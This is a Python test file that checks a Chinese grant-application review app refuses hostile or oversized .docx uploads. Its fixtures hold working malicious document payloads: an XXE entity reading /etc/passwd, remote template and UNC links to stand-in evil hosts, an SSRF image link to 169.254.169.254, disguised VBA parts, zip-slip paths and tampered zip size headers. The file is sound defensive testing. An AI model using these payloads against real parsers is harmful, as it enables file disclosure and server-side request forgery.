"""Hostile and oversized 申报书 (issue 17, points 3 and 4): each file is built from a valid generated
one with zipfile, refused with a Chinese reason by the service, the upload page and
``review-app parse`` (exit 2), and nothing is stored."""

import io
import os
import struct
import zipfile

import pytest
from sqlalchemy import func, select

from review_app.applications.models import Application, SourceFile
from review_app.audit.models import AuditEvent
from review_app.enterprises.models import Enterprise
from review_app.extensions import db
from review_app.intake.filecheck import check_docx
from review_app.intake.parsed import UnreadableFile
from review_app.intake.service import import_docx
from review_app.programs.service import current_program

from .. import factories as f
from ..conftest import csrf_from, login
from .conftest import docx_for, valid_sample

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
XXE = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _valid() -> bytes:
    return docx_for(valid_sample())


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {info.filename: zf.read(info) for info in zf.infolist()}


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in members.items():
            zf.writestr(zipfile.ZipInfo(name), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _edit(data: bytes, **changes) -> bytes:
    members = _members(data)
    for name, change in changes.get("edit", {}).items():
        members[name] = change(members.get(name, b""))
    members.update(changes.get("add", {}))
    return _zip(members)


def _doctype(part: str):
    def insert(xml: bytes) -> bytes:
        head, sep, rest = xml.partition(b"?>")
        return head + sep + b"\n" + XXE + rest.replace(b"</w:t>", b"&xxe;</w:t>", 1)

    return {"edit": {part: insert}}


def _rel(rels_part: str, rel_type: str, target: str, external: bool = True):
    mode = ' TargetMode="External"' if external else ""
    relationship = f'<Relationship Id="rIdX9" Type="{rel_type}" Target="{target}"{mode}/>'
    empty = f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE_RELS}">'

    def add(xml: bytes) -> bytes:
        xml = xml or (empty + "</Relationships>").encode()
        return xml.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")

    return {"edit": {rels_part: add}}


def _vba_content_type(xml: bytes) -> bytes:
    override = b'<Override PartName="/word/editdata.mso" ContentType="application/vnd.ms-office.vbaProject"/>'  # noqa: E501
    return xml.replace(b"</Types>", override + b"</Types>")


HOSTILE = {
    "doctype_document": (_doctype("word/document.xml"), "xml_dtd"),
    "doctype_styles": (_doctype("word/styles.xml"), "xml_dtd"),
    "doctype_rels": (
        {"edit": {"_rels/.rels": lambda x: x.replace(b"?>", b"?><!DOCTYPE r SYSTEM 'http://e/x'>", 1)}},
        "xml_dtd",
    ),
    "attached_template": (
        _rel("word/_rels/settings.xml.rels", f"{RELS}/attachedTemplate", "http://evil.example/t.dotm"),
        "external_ref",
    ),
    "external_image": (
        _rel("word/_rels/document.xml.rels", f"{RELS}/image", "http://169.254.169.254/x.png"),
        "external_ref",
    ),
    "unc_frame": (
        _rel("word/_rels/document.xml.rels", f"{RELS}/frame", "\\\\evil\\share\\x"),
        "external_ref",
    ),
    "vba_under_another_name": (
        {
            "add": {"word/editdata.mso": b"\xd0\xcf\x11\xe0 fake vba project"},
            **_rel("word/_rels/document.xml.rels", VBA_REL, "editdata.mso", external=False),
        },
        "macro",
    ),
    "vba_content_type": (
        {"add": {"word/editdata.mso": b"fake"}, "edit": {"[Content_Types].xml": _vba_content_type}},
        "macro",
    ),
    "parent_path": ({"add": {"../../evil": b"x"}}, "bad_member"),
    "nested_parent_path": ({"add": {"word/../../evil.xml": b"<a/>"}}, "bad_member"),
    "absolute_path": ({"add": {"/etc/evil": b"x"}}, "bad_member"),
    "backslash": ({"add": {"word\\evil.xml": b"<a/>"}}, "bad_member"),
    "drive_letter": ({"add": {"C:/evil.txt": b"x"}}, "bad_member"),
}  # fmt: skip


def _counts():
    return tuple(
        db.session.scalar(select(func.count()).select_from(model))
        for model in (Application, Enterprise, SourceFile, AuditEvent)
    )


def _refused_by_service(data: bytes, code: str) -> UnreadableFile:
    officer = f.user("prefecture", prefecture="洛阳市")
    db.session.commit()
    before = _counts()
    with pytest.raises(UnreadableFile) as caught:
        import_docx(current_program(), officer.prefecture, data, "申报书.docx", officer)
    db.session.rollback()
    assert caught.value.code == code, caught.value.message
    assert any("\u4e00" <= ch <= "\u9fff" for ch in caught.value.message)
    assert _counts() == before
    return caught.value


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_hostile_docx_is_refused_and_nothing_stored(app, kind):
    changes, code = HOSTILE[kind]
    data = _edit(_valid(), **changes)
    refused = _refused_by_service(data, code)  # also checks that nothing was stored
    assert refused.code == code and refused.message


@pytest.mark.parametrize("kind", ["doctype_document", "attached_template", "vba_under_another_name",
                                  "parent_path"])  # fmt: skip
def test_cli_parse_refuses_hostile_docx_with_exit_2(app, runner, tmp_path, kind):
    changes, _ = HOSTILE[kind]
    path = tmp_path / "申报书.docx"
    path.write_bytes(_edit(_valid(), **changes))
    result = runner.invoke(args=["parse", str(path)])
    assert result.exit_code == 2, result.output
    assert "不予受理" in result.output and "passwd" not in result.output


def test_upload_page_reports_the_reason(app, client):
    f.user("prefecture", "lyofficer", prefecture="洛阳市")
    db.session.commit()
    before = _counts()
    login(client, "lyofficer")
    page = client.get("/intake/upload")
    token = csrf_from(page.get_data(as_text=True))
    data = _edit(_valid(), **HOSTILE["external_image"][0])
    response = client.post(
        "/intake/upload",
        data={"csrf_token": token, "files": [(io.BytesIO(data), "图片.docx")]},
        content_type="multipart/form-data",
    )
    html = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "引用了外部图片" in html and "不予受理" in html
    assert _counts()[:3] == before[:3]


def test_hyperlinks_to_websites_stay_allowed(app):
    officer = f.user("prefecture", prefecture="洛阳市")
    data = _edit(_valid(), **_rel("word/_rels/document.xml.rels", f"{RELS}/hyperlink",
                                  "https://www.example.com/"))  # fmt: skip
    application = import_docx(current_program(), officer.prefecture, data, "a.docx", officer)
    assert application.id is not None


# -- point 4: oversized content --------------------------------------------------------------


def _padded_document(size: int) -> bytes:
    """The valid document whose document.xml is ``size`` bytes, padded with an incompressible
    comment (random hex: about 2:1, far under the zip-bomb ratio)."""
    members = _members(_valid())
    xml = members["word/document.xml"]
    pad = size - len(xml) - len(b"<!---->")
    comment = b"<!--" + os.urandom(pad // 2 + 1).hex().encode()[:pad] + b"-->"
    members["word/document.xml"] = xml.replace(b"<w:body>", b"<w:body>" + comment, 1)
    return _zip(members)


def test_xml_part_over_the_default_cap_is_refused_before_parsing(app):
    data = _padded_document(6 * 1024 * 1024)
    assert len(data) < 20 * 1024 * 1024
    err = _refused_by_service(data, "part_too_large")
    assert "word/document.xml" in err.message and "5 MB" in err.message


def test_xml_part_cap_is_a_setting(app):
    data = _padded_document(300_000)
    check_docx(data, "a.docx")  # under the default cap
    app.config["INTAKE_MAX_XML_PART_BYTES"] = 200_000
    try:
        with pytest.raises(UnreadableFile) as caught:
            check_docx(data, "a.docx")
    finally:
        del app.config["INTAKE_MAX_XML_PART_BYTES"]
    assert caught.value.code == "part_too_large"


def _understate_size(data: bytes, member: str, size: int) -> bytes:
    """Make the zip headers claim ``member`` inflates to ``size`` bytes."""
    buf = bytearray(data)
    encoded = member.encode()
    at = buf.find(b"PK\x03\x04")
    while at != -1:  # local headers: uncompressed size at +22
        if buf[at + 30 : at + 30 + len(encoded)] == encoded:
            struct.pack_into("<I", buf, at + 22, size)
        at = buf.find(b"PK\x03\x04", at + 4)
    at = buf.find(b"PK\x01\x02")
    while at != -1:  # central directory: uncompressed size at +24
        if buf[at + 46 : at + 46 + len(encoded)] == encoded:
            struct.pack_into("<I", buf, at + 24, size)
        at = buf.find(b"PK\x01\x02", at + 4)
    return bytes(buf)


def test_a_header_that_understates_the_size_cannot_pass(app):
    data = _understate_size(_padded_document(6 * 1024 * 1024), "word/document.xml", 100_000)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("word/document.xml")
    assert info.file_size == 100_000
    with pytest.raises(UnreadableFile) as caught:
        check_docx(data, "a.docx")
    assert caught.value.code in ("corrupt", "part_too_large")


@pytest.mark.parametrize(
    ("key", "title", "length", "cap"),
    [("link.factory", "工厂建设", 15_001, 15_000), ("plan.goals", "预期目标", 20_001, 20_000)],
)
def test_a_section_far_over_its_limit_is_refused_with_its_name(app, key, title, length, cap):
    parsed = valid_sample()
    parsed.sections[key] = ("智能工厂建设内容" * (length // 8 + 1))[:length]
    err = _refused_by_service(docx_for(parsed), "section_too_long")
    assert f"“{title}”部分共{length}字，超过上限{cap}字" in err.message


def test_a_section_over_its_limit_but_under_the_cap_is_a_format_problem(app):
    officer = f.user("prefecture", prefecture="洛阳市")
    parsed = valid_sample()
    parsed.sections["link.factory"] = "工厂" * 1000  # 2000 > 1500, far under 15000
    application = import_docx(
        current_program(), officer.prefecture, docx_for(parsed), "a.docx", officer
    )
    codes = {p["code"] for p in application.format_report if p["severity"] == "blocking"}
    assert "section_over_limit" in codes


def test_cli_parse_refuses_an_oversized_section(app, runner, tmp_path):
    parsed = valid_sample()
    parsed.sections["link.rnd"] = "研发" * 8000
    path = tmp_path / "长.docx"
    path.write_bytes(docx_for(parsed))
    result = runner.invoke(args=["parse", str(path)])
    assert result.exit_code == 2 and "研发设计" in result.output, result.output
